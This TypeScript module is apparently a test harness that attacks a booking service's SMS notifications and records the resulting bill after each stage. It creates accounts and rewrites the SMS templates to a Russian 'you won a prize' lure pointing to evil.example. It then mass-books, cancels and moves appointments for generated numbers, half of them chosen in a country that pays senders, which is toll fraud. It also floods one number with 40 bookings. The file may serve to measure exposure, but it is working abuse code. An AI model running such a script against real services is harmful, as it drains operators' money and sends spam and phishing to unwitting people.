// SMS that strangers make the service send: without a proof, from proved accounts, to phones of the whole world.

import type { Owner } from './codes.ts';
import { each, ownPhone, registerAccount, signInByPhone } from './people.ts';
import type { Line } from './run.ts';
import type { Answer, Target } from './target.ts';

const OWN_TEXT = 'Вам приз: evil.example {date}';
const KINDS = ['booked', 'booked_by_provider', 'reminder', 'moved', 'cancelled'] as const;
const HOUR_MS = 3_600_000;
/** The time the sender has to send the queue, in milliseconds. */
const SETTLE_MS = 8000;
/** More accounts with a phone of their own than whoever has ten SIM cards. */
const ACCOUNTS = 10;

interface Attacker {
  readonly token: string;
  readonly service: number;
}

export async function attackMessages(target: Target, owner: Owner): Promise<readonly Line[]> {
  const lines: Line[] = [];
  const note = async (what: string) => {
    await new Promise((resolve) => setTimeout(resolve, SETTLE_MS));
    lines.push({ what, kopecks: await target.bill() });
  };
  const unproved = await open(target, await registerAccount(target));
  await each(300, (n) => book(target, unproved, { n, phone: phoneOf(n) }));
  await note('300 bookings of an account that proved nothing');
  const first = await proved(target, 0);
  if (first === null) return lines;
  const appointments = await each(700, (n) => book(target, first, { n, phone: phoneOf(n) }));
  await note('700 bookings of an account with a phone');
  await each(60, (n) =>
    change(target, first, { id: appointments[n], status: 'cancelled_by_provider' }),
  );
  await each(20, (n) =>
    change(target, first, { id: appointments[100 + n], starts_at: startsAt(2000 + n) }),
  );
  await note('60 cancellations and 20 moves of them');
  await each(40, (n) => book(target, first, { n: 3000 + n, phone: '79165550000' }));
  await note('40 bookings for one phone');
  for (let n = 1; n < ACCOUNTS; n += 1) {
    const attacker = await proved(target, n);
    if (attacker)
      await each(30, (m) => book(target, attacker, { n: m, phone: phoneOf(n * 100 + 2 * m + 1) }));
  }
  await note(`30 bookings of each of ${ACCOUNTS - 1} accounts with phones besides`);
  lines.push({ what: 'all of them together', owners: await owner.waits() });
  return lines;
}

/** Every second one is of a country that pays whoever sends to it. */
const phoneOf = (n: number): string => (n % 2 === 0 ? `1202555${1000 + n}` : `7926555${1000 + n}`);
const startsAt = (n: number): string => new Date(Date.now() + (n + 30) * HOUR_MS).toISOString();

/** Null: nobody reads the SMS that prove its phone. */
async function proved(target: Target, n: number): Promise<Attacker | null> {
  const token = await signInByPhone(target, ownPhone(n));
  return token === null ? null : open(target, token);
}

async function open({ send }: Target, token: string): Promise<Attacker> {
  await send('POST /api/provider-profile/me', { data: { name: 'M' } }, { token });
  const texts = Object.fromEntries(KINDS.map((kind) => [kind, OWN_TEXT]));
  await send('PUT /api/message-template', { data: { ...texts, channels: ['sms'] } }, { token });
  const service = { data: { title: 'x', duration: 5, price: 1 } };
  return { token, service: idOf(await send('POST /api/services', service, { token })) };
}

/** Returns the id of the created document. */
function idOf({ status, body }: Answer): number {
  if (status === 201) return body.data.id;
  throw new Error(`nothing was made: ${status} ${JSON.stringify(body)}`);
}

interface Booking {
  readonly n: number;
  readonly phone: string;
}

async function book(
  { send }: Target,
  { token, service }: Attacker,
  { n, phone }: Booking,
): Promise<number> {
  const client = { name: 'J', phone };
  const data = { services: [service], starts_at: startsAt(n), client, allow_overlap: true };
  return idOf(await send('POST /api/appointments', { data }, { token }));
}

/** A new status or start of an appointment. */
interface Change {
  readonly id: number | undefined;
  readonly status?: string;
  readonly starts_at?: string;
}

const change = ({ send }: Target, { token }: Attacker, { id, ...data }: Change) =>
  send(`PUT /api/appointments/${id}`, { data }, { token });
